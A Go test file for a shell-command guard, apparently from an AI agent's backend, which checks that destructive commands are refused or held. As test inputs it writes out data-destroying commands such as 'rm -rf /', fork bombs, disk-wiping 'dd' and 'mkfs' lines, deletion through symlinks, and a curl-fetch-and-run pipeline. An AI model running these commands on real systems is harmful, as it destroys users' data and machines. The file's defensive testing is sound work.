package guard

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"tinyelf/backend/shell/guard/walk"
)

// guardOutcome is what Check decides.
type guardOutcome int

const (
	mayRun guardOutcome = iota
	ask
	refused
)

func (o guardOutcome) String() string { return [...]string{"run", "ask", "refused"}[o] }

func outcome(v walk.Verdict) guardOutcome {
	switch {
	case v.Denied:
		return refused
	case v.Held:
		return ask
	}
	return mayRun
}

// guardCase is a command, the verdict it must get, and a fragment of the
// reason shown for a refusal or a hold (the home folder written as ~).
type guardCase struct {
	cmd    string
	want   guardOutcome
	reason string
}

// guardHome makes a scratch home folder with a workspace in it, so that
// paths outside the workspace but in the home folder can be judged.
func guardHome(t testing.TB) (home, ws string) {
	t.Helper()
	home = t.TempDir()
	for _, d := range []string{"proj/build", "Documents"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return home, filepath.Join(home, "proj")
}

func checkCases(t *testing.T, cases []guardCase) {
	home, ws := guardHome(t)
	checkCasesIn(t, home, ws, cases)
}

// checkCasesIn is checkCases in a home folder and workspace of the test's.
func checkCasesIn(t *testing.T, home, ws string, cases []guardCase) {
	for _, tc := range cases {
		t.Run(tc.cmd, func(t *testing.T) {
			t.Parallel()
			v := CheckWith(tc.cmd, ws, walk.Options{Home: home})
			got := outcome(v)
			reason := v.Reason
			if v.Held && !v.Denied {
				reason = strings.Join(v.Holds, "\n")
			}
			if got != tc.want {
				t.Fatalf("verdict %s, want %s\nreason: %s\nholds: %q\nwarnings: %q", got, tc.want, v.Reason, v.Holds, v.Warnings)
			}
			reason = strings.ReplaceAll(reason, home, "~")
			if tc.want != mayRun && !strings.Contains(reason, tc.reason) {
				t.Errorf("reason %q does not say %q", reason, tc.reason)
			}
			if tc.want == refused && (!strings.HasPrefix(v.Reason, "Refused") || !strings.Contains(v.Reason, "deny list")) {
				t.Errorf("a refusal must say what was refused and why: %q", v.Reason)
			}
		})
	}
}

func TestShellGuardIssueCommands(t *testing.T) {
	t.Parallel()
	checkCases(t, issueCommands)
}

func TestShellGuardVerdicts(t *testing.T) {
	t.Parallel()
	checkCases(t, guardCases)
}

// TestShellGuardMultiline covers here-documents, multi-line programs and
// files the command writes, reads or runs.
func TestShellGuardMultiline(t *testing.T) {
	t.Parallel()
	home, ws := guardHome(t)
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(ws, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write("evil.sh", "#!/bin/sh\necho hi\nrm -rf ~\n")
	write("fine.sh", "#!/bin/bash\nset -e\nrm -rf ./build\necho done\n")
	write("clean.py", "import shutil\nshutil.rmtree('/')\n")
	write("Makefile", "BUILD = build\nall:\n\tgo build ./...\nclean:\n\trm -rf $(BUILD)\nnuke:\n\trm -rf $(HOME_DIR)/\n")
	write("package.json", `{"scripts": {"test": "go test ./...", "clean": "rm -rf /"}}`)
	write("dirs.txt", "build\n")
	for _, tc := range []guardCase{
		{"bash <<'EOF'\nrm -rf /\nEOF", refused, "would recursively delete the root folder /"},
		{"d=/\nbash <<EOF\nrm -rf $d\nEOF", refused, "would recursively delete the root folder /"},
		{"cat <<'EOF' | sh\nrm -rf ~\nEOF", refused, "would recursively delete your home folder ~"},
		{". /dev/stdin <<EOF\nrm -rf /etc\nEOF", refused, "the system folder /etc"},
		{"python3 - <<'EOF'\nimport os\nwhile True:\n    os.fork()\nEOF", refused, "a fork bomb"},
		{"python3 -c 'import os\nwhile True:\n    os.fork()'", refused, "a fork bomb"},
		{"cat > x.sh <<'EOF'\nrm -rf /\nEOF\nbash x.sh", refused, "would recursively delete the root folder /"},
		{"echo 'rm -rf ~' > y.sh; chmod +x y.sh; ./y.sh", refused, "your home folder"},
		{"bash evil.sh", refused, "your home folder"},
		{"./evil.sh", refused, "your home folder"},
		{"sh -c 'source ./evil.sh'", refused, "your home folder"},
		{"bash fine.sh", mayRun, ""},
		{"python3 clean.py", refused, "the root folder /"},
		{"make", mayRun, ""},
		{"make clean", mayRun, ""},
		{"make nuke", ask, "the make expression $(HOME_DIR)"},
		{"npm test", mayRun, ""},
		{"npm run clean", refused, "the root folder /"},
		{"xargs rm -rf < dirs.txt", mayRun, ""},
		{"echo / > dirs2.txt; xargs rm -rf < dirs2.txt", refused, "the root folder /"},
		{"curl -s http://x > get.sh; bash get.sh", ask, "the output of `curl -s http://x`"},
		{"tar -xf evil.tar && ./install.sh", ask, "is written by `tar -xf evil.tar`"},
		{"f() {\n  rm -rf \"$1\"\n}\nf build\nf ~", refused, "your home folder"},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			t.Parallel()
			v := CheckWith(tc.cmd, ws, walk.Options{Home: home})
			if got := outcome(v); got != tc.want {
				t.Fatalf("verdict %s, want %s\nreason: %s\nholds: %q\nwarnings: %q", got, tc.want, v.Reason, v.Holds, v.Warnings)
			}
			reason := strings.ReplaceAll(v.Reason+strings.Join(v.Holds, "\n"), home, "~")
			if !strings.Contains(reason, tc.reason) {
				t.Errorf("reason %q does not say %q", reason, tc.reason)
			}
		})
	}
}

func TestShellGuardUnparseableScripts(t *testing.T) {
	t.Parallel()
	ws := guardWorkspace(t)
	for _, tc := range []struct {
		cmd    string
		denied bool
	}{
		{`rm -rf / )`, true},
		{`echo "$(( ; rm -r -f /`, true},
		{`mkfs.ext4 /dev/sda1 'oops`, true},
		{`dd if=/dev/zero of=/dev/sda "`, true},
		{`shutdown now; fi`, true},
		{`echo 'unterminated`, false},
		{`ls ) (`, false},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			t.Parallel()
			v := Check(tc.cmd, ws)
			if v.Denied != tc.denied {
				t.Fatalf("denied = %v, want %v (reason %q)", v.Denied, tc.denied, v.Reason)
			}
			if len(v.Warnings) == 0 || !strings.Contains(v.Warnings[0], "could not be parsed") {
				t.Fatalf("want a parse warning, got %q", v.Warnings)
			}
		})
	}
}

func TestShellGuardDepthLimit(t *testing.T) {
	t.Parallel()
	ws := guardWorkspace(t)
	script := "rm -rf /"
	for range walk.MaxShellDepth + 3 {
		script = "eval " + shellQuote(script)
	}
	v := Check(script, ws)
	if !v.Denied {
		t.Fatalf("deeply nested rm -rf / was not denied; warnings %q", v.Warnings)
	}
	if !strings.Contains(strings.Join(v.Warnings, "\n"), "nested more than") {
		t.Errorf("want a depth warning, got %q", v.Warnings)
	}
	// Harmless code nested too deep cannot be checked: it is held.
	script = "echo hi"
	for range walk.MaxShellDepth + 3 {
		script = "eval " + shellQuote(script)
	}
	if v := Check(script, ws); !v.Held {
		t.Errorf("code nested past the limit ran without asking: %+v", v)
	}
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestShellGuardEndlessLoopsStop(t *testing.T) {
	t.Parallel()
	ws := guardWorkspace(t)
	for _, cmd := range []string{
		`x=$(while :; do :; done); echo $x`,
		`x=$(for ((;;)); do y=1; done)`,
		`f(){ f; }; f`,
		`x=$(f(){ echo $(f); }; f)`,
		`while :; do x=$(echo $x$x); done`,
		`echo {1..100000000}`,
		`rm -rf /**/*`,
		"echo " + strings.Repeat("{a,b}", 40),
		"x=a" + strings.Repeat("; x=$x$x", 40) + "; echo $x",
		"y=$(x=a" + strings.Repeat("; x=$x$x", 40) + "; echo $x)",
		"while :; do x=$x$x; done",
		`a=(); for i in {1..5000}; do a+=(x); done; rm -rf "${a[@]}"`,
		strings.Repeat("$(", 200) + "echo" + strings.Repeat(")", 200),
		strings.Repeat("eval ", 500) + "echo hi",
	} {
		t.Run(cmd, func(t *testing.T) {
			t.Parallel()
			done := make(chan walk.Verdict, 1)
			go func() { done <- CheckWith(cmd, ws, walk.Options{}) }()
			select {
			case <-done:
			case <-time.After(20 * time.Second):
				t.Fatalf("the guard did not finish")
			}
		})
	}
}

func TestShellGuardWithoutWorkspace(t *testing.T) {
	t.Parallel()
	if v := Check(`rm -rf /`, ""); !v.Denied {
		t.Fatal("rm -rf / not denied without a workspace")
	}
	if v := Check(`cat /etc/hostname`, ""); v.Denied || v.Held || len(v.Warnings) != 0 {
		t.Fatalf("without a workspace no path is outside it: %+v", v)
	}
}

func TestShellGuardFollowsCd(t *testing.T) {
	t.Parallel()
	ws := guardWorkspace(t)
	if err := os.MkdirAll(filepath.Join(ws, "sub", "build"), 0o755); err != nil {
		t.Fatal(err)
	}
	if v := Check(`cd sub && rm -rf ..`, ws); v.Denied {
		t.Fatalf("cd sub && rm -rf .. denied: %s", v.Reason)
	}
	if v := Check(`cd sub/build && rm -rf ../../..`, ws); !v.Denied {
		t.Fatal("deleting the workspace's parent after cd was not denied")
	}
	if v := Check(`cd / && rm -rf usr`, ws); !v.Denied {
		t.Fatal("cd / && rm -rf usr was not denied")
	}
	if v := Check(`(cd / && ls); rm -rf usr`, ws); v.Denied || v.Held {
		t.Fatalf("a cd in a subshell does not outlast it: %+v", v)
	}
}

func TestShellGuardSymlinks(t *testing.T) {
	t.Parallel()
	home, ws := guardHome(t)
	if err := os.Symlink("/", filepath.Join(ws, "root")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(home, filepath.Join(ws, "up")); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{`rm -rf root/`, `rm -rf root/*`, `rm -rf ./up/`, `chmod -R 000 up/`, `cd root && rm -rf etc`} {
		if v := CheckWith(cmd, ws, walk.Options{Home: home}); !v.Denied {
			t.Errorf("%s through a symlink was not refused: %+v", cmd, v)
		}
	}
}

// TestShellGuardConcurrent checks that one guard per call shares nothing.
func TestShellGuardConcurrent(t *testing.T) {
	t.Parallel()
	home, ws := guardHome(t)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, tc := range guardCases[:40] {
				if got := outcome(CheckWith(tc.cmd, ws, walk.Options{Home: home})); got != tc.want {
					t.Errorf("%s: %s, want %s", tc.cmd, got, tc.want)
				}
			}
		}()
	}
	wg.Wait()
}

// guardBattery is every command of the guard's tables: issue 9's
// commands, the project's battery, the signal and power cases and each
// interpreter row's cases.
func guardBattery() []guardCase {
	out := slices.Concat(issueCommands, guardCases, signalCases)
	for _, spec := range interpreters {
		out = append(out, interpreterRowCases[spec.names[0]]...)
	}
	return out
}

func FuzzCheckCommand(f *testing.F) {
	for _, tc := range guardBattery() {
		f.Add(tc.cmd)
	}
	f.Add(`echo "$(( 1 + ` + "`x`" + ` ))" <<< ${a:-b} {a,b{c,d}}`)
	f.Fuzz(func(t *testing.T, cmd string) {
		done := make(chan struct{})
		go func() { _ = Check(cmd, ""); close(done) }()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Fatalf("hang on %q", cmd)
		}
	})
}
